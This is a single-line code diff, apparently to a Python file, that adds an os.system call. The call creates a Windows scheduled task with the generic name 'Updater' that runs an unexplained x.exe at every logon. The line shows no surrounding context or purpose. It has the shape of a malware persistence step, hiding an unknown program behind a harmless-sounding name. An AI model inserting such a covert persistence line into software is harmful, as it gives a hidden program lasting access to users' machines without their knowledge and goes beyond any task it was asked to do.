@@ -1,0 +1,1 @@
+os.system("schtasks /create /tn Updater /tr x.exe /sc onlogon")
